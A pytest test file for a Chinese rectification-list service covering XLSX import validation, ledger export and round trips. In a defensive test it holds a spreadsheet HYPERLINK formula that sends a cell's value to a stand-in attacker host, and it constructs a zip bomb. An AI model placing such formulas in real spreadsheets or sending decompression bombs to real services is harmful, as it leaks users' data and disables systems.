"""Problem lists as XLSX: import with Chinese headers in any order, the ledger export, and
the round trip between them."""

import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlmodel import Session, col, select

from backend.core import clock
from backend.rectification import sheets
from backend.rectification.models import Problem
from tests import factories as f
from tests.rectification.conftest import HUISHI, Api, People, auth, rows


@pytest.fixture(autouse=True)
def _august_2023() -> None:
    clock.freeze(datetime(2023, 8, 10, 2, 0, tzinfo=UTC))


def xlsx(header: list[str], *lines: list) -> bytes:  # type: ignore[type-arg]
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for line in lines:
        ws.append(line)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# Columns deliberately out of the usual order.
HEADER = ["地区", "问题描述", "序号", "整改时限", "类别", "责任人", "责任单位"]


def _import(api: Api, who, batch_id: str, data: bytes, mode: str | None = None):  # type: ignore[no-untyped-def]
    return api.client.post(
        f"/api/v1/problem-batches/{batch_id}/import",
        files={
            "file": (
                "清单.xlsx",
                data,
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            )
        },
        data={"mode": mode} if mode else {},
        headers=auth(who),
    )


def test_a_list_with_names_codes_and_chinese_dates_imports_whole(
    api: Api, people: People, session: Session
) -> None:
    batch = api.batch(people.township)
    data = xlsx(
        HEADER,
        [
            "高家庄村",
            "思想认识和责任落实上明显松劲懈怠。部分干部说不清政策。",
            1,
            "2023年9月20日",
            "责任落实",
            "高宏伟",
            "高家庄村委会",
        ],
        [
            "620422100201",
            "防止返贫监测和帮扶工作还不够扎实",
            2,
            datetime(2023, 9, 25),
            "监测帮扶",
            "",
            "南十里铺村委会",
        ],
        [
            "会师镇",
            "台账资料整理不够规范",
            None,
            "2023/9/30",
            "台账资料",
            "张桂兰",
            "会师镇乡村振兴工作站",
        ],
    )
    r = _import(api, people.township, batch["id"], data)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["imported"] == 3 and body["rejected"] == 0 and body["mode"] == "all_or_nothing"
    stored = rows(session, select(Problem).order_by(col(Problem.number)))
    assert [(p.number, p.area_code, p.deadline) for p in stored] == [
        (1, f.GAOJIAZHUANG, date(2023, 9, 20)),
        (2, "620422100201", date(2023, 9, 25)),
        (3, HUISHI, date(2023, 9, 30)),
    ]
    first = stored[0]
    assert first.title == "思想认识和责任落实上明显松劲懈怠"
    assert first.description == "部分干部说不清政策。"
    assert first.category == "responsibility" and first.responsible_person == "高宏伟"


def test_bad_rows_are_each_explained_and_nothing_is_imported(
    api: Api, people: People, session: Session
) -> None:
    batch = api.batch(people.township)
    data = xlsx(
        HEADER,
        ["高家庄村", "好的一行", 1, "2023-09-20", "收入", "", ""],
        ["不存在村", "地区不对", 2, "2023-09-20", "收入", "", ""],
        ["高家庄村", "日期不对", 3, "九月底", "收入", "", ""],
        ["高家庄村", "时限太晚", 4, "2023-10-20", "收入", "", ""],
        ["高家庄村", "类别不对", 5, "2023-09-20", "吃饭", "", ""],
        ["红堡子村", "别的乡镇的村", 6, "2023-09-20", "收入", "", ""],
    )
    r = _import(api, people.township, batch["id"], data)
    assert r.status_code == 422 and r.json()["error"] == "import_refused"
    assert "5 行有误" in r.json()["message"]
    account = {row["row"]: row for row in r.json()["detail"]}
    assert account[2]["ok"] is True
    assert (
        account[3]["errors"][0]["column"] == "地区"
        and "不存在村" in account[3]["errors"][0]["message"]
    )
    assert account[4]["errors"][0]["column"] == "整改时限"
    assert "2023-09-30" in account[5]["errors"][0]["message"]
    assert account[6]["errors"][0]["column"] == "类别"
    assert account[7]["errors"][0]["column"] == "地区"
    assert rows(session, select(Problem)) == []

    partial = _import(api, people.township, batch["id"], data, mode="partial")
    assert partial.status_code == 200
    assert partial.json()["imported"] == 1 and partial.json()["rejected"] == 5
    assert [p.title for p in rows(session, select(Problem))] == ["好的一行"]


def test_an_ambiguous_name_is_refused_for_that_row(
    api: Api, people: People, session: Session
) -> None:
    # Two villages named 高家庄村 in one county: the name alone cannot say which.
    county = api.batch(people.inspector, area_code="620422")
    from backend.areas.models import Area

    session.add(
        Area(code="620422101299", name="高家庄村民委员会", level="village", parent_code="620422101")
    )
    session.commit()
    try:
        r = _import(
            api,
            people.inspector,
            county["id"],
            xlsx(HEADER, ["高家庄村", "重名", 1, "2023-09-20", "收入", "", ""]),
        )
        assert r.status_code == 422
        error = r.json()["detail"][0]["errors"][0]
        assert error["column"] == "地区" and "重名" in error["message"]
        ok = _import(
            api,
            people.inspector,
            county["id"],
            xlsx(HEADER, ["会师镇高家庄村", "带乡镇名", 1, "2023-09-20", "收入", "", ""]),
        )
        assert (
            ok.status_code == 200 and rows(session, select(Problem))[0].area_code == f.GAOJIAZHUANG
        )
    finally:
        for p in rows(session, select(Problem)):
            session.delete(session.get(Problem, p.id))
        session.commit()
        session.delete(session.get(Area, "620422101299"))
        session.commit()


def test_missing_columns_and_files_that_are_not_xlsx_are_refused(api: Api, people: People) -> None:
    batch = api.batch(people.township)
    r = _import(
        api, people.township, batch["id"], xlsx(["序号", "问题描述", "类别"], [1, "x", "收入"])
    )
    assert r.status_code == 422 and r.json()["detail"][0]["field"] == "file"
    assert "地区" in r.json()["message"] and "整改时限" in r.json()["message"]
    r = _import(api, people.township, batch["id"], b"%PDF-1.4 not a sheet")
    assert r.status_code == 422 and "不是 XLSX" in r.json()["message"]
    r = _import(api, people.township, batch["id"], b"PK\x03\x04broken zip")
    assert r.status_code == 422 and "不是 XLSX" in r.json()["message"]
    r = _import(api, people.cadre, batch["id"], xlsx(HEADER))
    assert r.status_code == 404  # the cadre has no problem in this list: it is not in reach


def test_the_ledger_exports_and_imports_back_as_the_same_problems(
    api: Api, people: People, session: Session
) -> None:
    batch = api.batch(people.township)
    first = api.problem(people.township, batch["id"], severity="serious")
    api.problem(
        people.township,
        batch["id"],
        title="人居环境还需持续改善",
        description="有的村存在柴草、牲畜粪便乱堆乱放现象。",
        category="living_environment",
        area_code="620422100201",
        responsible_person="",
        deadline="2023-09-28",
    )
    api.claim(people.cadre, first["id"])
    r = api.get(people.township, f"/problem-batches/{batch['id']}/ledger")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in sheet[1]]
    for column in (
        "序号",
        "问题描述",
        "类别",
        "地区",
        "责任单位",
        "责任人",
        "整改时限",
        "整改状态",
        "是否逾期",
        "整改措施",
    ):
        assert column in header
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert row["整改状态"] == "已认领" and "清理台账表述" in row["整改措施"]
    assert row["地区"] == "高家庄村"

    again = api.batch(people.township, title="复制的清单")
    imported = _import(api, people.township, again["id"], r.content)
    assert imported.status_code == 200, imported.text

    def shape(batch_id: str) -> list[tuple]:  # type: ignore[type-arg]
        return [
            (
                p.number,
                p.title,
                p.description,
                p.category,
                p.severity,
                p.area_code,
                p.responsible_unit,
                p.responsible_person,
                p.deadline,
            )
            for p in rows(
                session,
                select(Problem).where(Problem.batch_id == batch_id).order_by(col(Problem.number)),
            )
        ]

    import uuid

    assert shape(uuid.UUID(again["id"])) == shape(uuid.UUID(batch["id"]))
    assert len(shape(uuid.UUID(again["id"]))) == 2


def test_the_ledger_is_not_found_for_those_outside_the_list(api: Api, people: People) -> None:
    batch = api.batch(people.township)
    api.problem(people.township, batch["id"])
    for who in (people.outsider, people.other_cadre):
        r = api.get(who, f"/problem-batches/{batch['id']}/ledger")
        assert r.status_code == 404 and r.json()["error"] == "not_found"


def test_a_word_document_is_not_a_spreadsheet(api: Api, people: People) -> None:
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    batch = api.batch(people.township)
    r = _import(api, people.township, batch["id"], out.getvalue())
    assert r.status_code == 422 and r.json()["detail"][0]["field"] == "file"


def test_text_that_looks_like_a_formula_stays_text_in_the_ledger(
    api: Api, people: People, session: Session
) -> None:
    batch = api.batch(people.township)
    trap = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    api.problem(people.township, batch["id"], title=trap, responsible_person="=1+1")
    r = api.get(people.township, f"/problem-batches/{batch['id']}/ledger")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    # Written as inline strings (t="inlineStr"), never as <f> formula elements.
    assert "<f>" not in sheet_xml and "<is><t>=HYPERLINK(" in sheet_xml
    ws = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2], strict=True)}
    assert row["问题标题"].value == trap and row["问题标题"].data_type == "s"
    assert row["责任人"].value == "=1+1" and row["责任人"].data_type == "s"
    # And it imports back as the same text.
    again = api.batch(people.township, title="复制的清单")
    assert _import(api, people.township, again["id"], r.content).status_code == 200
    titles = rows(session, select(Problem.title).where(Problem.title == trap))
    assert len(titles) == 2


def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    api: Api, people: People, session: Session
) -> None:
    batch = api.batch(people.township)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        # 20 MB of one letter packs into about 20 KB: 1000:1.
        z.writestr("xl/sharedStrings.xml", b"<sst>" + b"a" * 20_000_000 + b"</sst>")
    assert len(out.getvalue()) < 100_000
    r = _import(api, people.township, batch["id"], out.getvalue())
    assert r.status_code == 422 and r.json()["detail"][0]["field"] == "file"
    assert "解压后过大" in r.json()["message"]
    assert rows(session, select(Problem)) == []


def test_more_rows_than_allowed_are_refused_whole(
    api: Api, people: People, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "MAX_ROWS", 2)
    batch = api.batch(people.township)
    line = ["高家庄村", "台账不规范。", None, "2023-09-15", "台账资料", "高宏伟", "高家庄村委会"]
    r = _import(api, people.township, batch["id"], xlsx(HEADER, line, line, line), "partial")
    assert r.status_code == 422 and "最多导入 2 行" in r.json()["message"]
    assert rows(session, select(Problem)) == []


def test_a_title_row_above_the_header_and_serial_number_dates_are_read(
    api: Api, people: People, session: Session
) -> None:
    batch = api.batch(people.township)
    wb = Workbook()
    ws = wb.active
    ws.append(["会师镇2023年调研督查发现问题整改清单"])
    ws.append([])
    ws.append(HEADER)
    # 45199 is how Excel stores 2023-09-30 when the cell lost its date format.
    ws.append(["高家庄村", "台账不规范。", 1, 45199, "台账资料", "高宏伟", "高家庄村委会"])
    ws.append(["高家庄村", "环境不整洁。", 2, 9, "人居环境", "高宏伟", "高家庄村委会"])
    out = io.BytesIO()
    wb.save(out)
    r = _import(api, people.township, batch["id"], out.getvalue(), "partial")
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["imported"] == 1 and body["rejected"] == 1
    # Rows are numbered as Excel shows them, below the header on row 3.
    assert [row["row"] for row in body["rows"]] == [4, 5]
    assert body["rows"][1]["errors"][0]["column"] == "整改时限"
    stored = rows(session, select(Problem))
    assert [(p.number, p.deadline) for p in stored] == [(1, date(2023, 9, 30))]


def test_a_number_taken_while_importing_is_a_conflict_not_a_crash(
    api: Api, people: People, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    batch = api.batch(people.township)
    original = sheets.service.add_problem

    def racing(**kw):  # type: ignore[no-untyped-def]
        problem = original(**kw)
        # What another issuer's insert looks like at commit: the same number in the batch.
        kw["session"].add(
            Problem(
                batch_id=problem.batch_id,
                number=problem.number,
                title="同时添加的问题",
                category=problem.category,
                area_code=problem.area_code,
                deadline=problem.deadline,
            )
        )
        return problem

    monkeypatch.setattr(sheets.service, "add_problem", racing)
    line = ["高家庄村", "台账不规范。", 1, "2023-09-15", "台账资料", "高宏伟", "高家庄村委会"]
    r = _import(api, people.township, batch["id"], xlsx(HEADER, line))
    assert r.status_code == 409 and r.json()["error"] == "number_taken"
    assert rows(session, select(Problem)) == []
